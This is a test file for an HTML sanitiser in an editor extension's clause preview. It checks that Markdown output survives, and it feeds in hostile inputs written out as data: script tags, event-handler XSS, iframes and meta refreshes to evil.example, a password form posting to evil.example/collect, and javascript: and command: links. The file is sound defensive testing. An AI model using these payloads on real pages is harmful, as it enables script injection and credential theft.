import { strict as assert } from 'node:assert';
import { sanitizePreviewHtml } from '../../../src/extension/clauses/sanitizePreview';

describe('clause preview sanitising', () => {
  it('keeps what Markdown renders: headings, emphasis, lists, tables, code, quotes', () => {
    const html = '<h2 data-line="0">Objet</h2>\n<p>La <strong>Municipalité</strong> publie <em>ses</em> données.</p>\n<ol start="3"><li>un</li></ol>\n<table><thead><tr><th align="right">n</th></tr></thead><tbody><tr><td align="right">1</td></tr></tbody></table>\n<pre><code class="language-json">{"a": 1}</code></pre>\n<blockquote><p>Note</p></blockquote>';
    assert.equal(
      sanitizePreviewHtml(html),
      '<h2>Objet</h2>\n<p>La <strong>Municipalité</strong> publie <em>ses</em> données.</p>\n<ol start="3"><li>un</li></ol>\n<table><thead><tr><th align="right">n</th></tr></thead><tbody><tr><td align="right">1</td></tr></tbody></table>\n<pre><code class="language-json">{"a": 1}</code></pre>\n<blockquote><p>Note</p></blockquote>',
    );
  });

  it('removes scripts, event attributes, styles, frames, media and meta refreshes', () => {
    const html = '<p onclick="steal()">Text<script>alert(1)</script><img src=x onerror="alert(2)"></p><style>body{display:none}</style><iframe src="https://evil.example"></iframe><meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><svg onload="alert(3)"></svg><object data="x.swf"></object>';
    const clean = sanitizePreviewHtml(html);
    assert.equal(clean, '<p>Text</p>');
  });

  it('makes forms and navigation inert: no form, input or button; links keep their text, their target only as a tooltip', () => {
    const html = '<form action="https://evil.example/collect" method="post"><input name="password" type="password"><button formaction="https://evil.example">Send</button></form><p><a href="https://open.canada.ca/fr">portail</a> <a href="javascript:alert(1)">clic</a> <a href="command:workbench.action.terminal.new">terminal</a></p>';
    const clean = sanitizePreviewHtml(html);
    assert.doesNotMatch(clean, /<form|<input|<button|href=|formaction|action=/);
    assert.match(clean, /<a title="https:\/\/open\.canada\.ca\/fr">portail<\/a>/);
    assert.match(clean, /<a title="javascript:alert\(1\)">clic<\/a>/, 'shown, never run');
    assert.match(clean, /<a title="command:workbench\.action\.terminal\.new">terminal<\/a>/);
  });
});
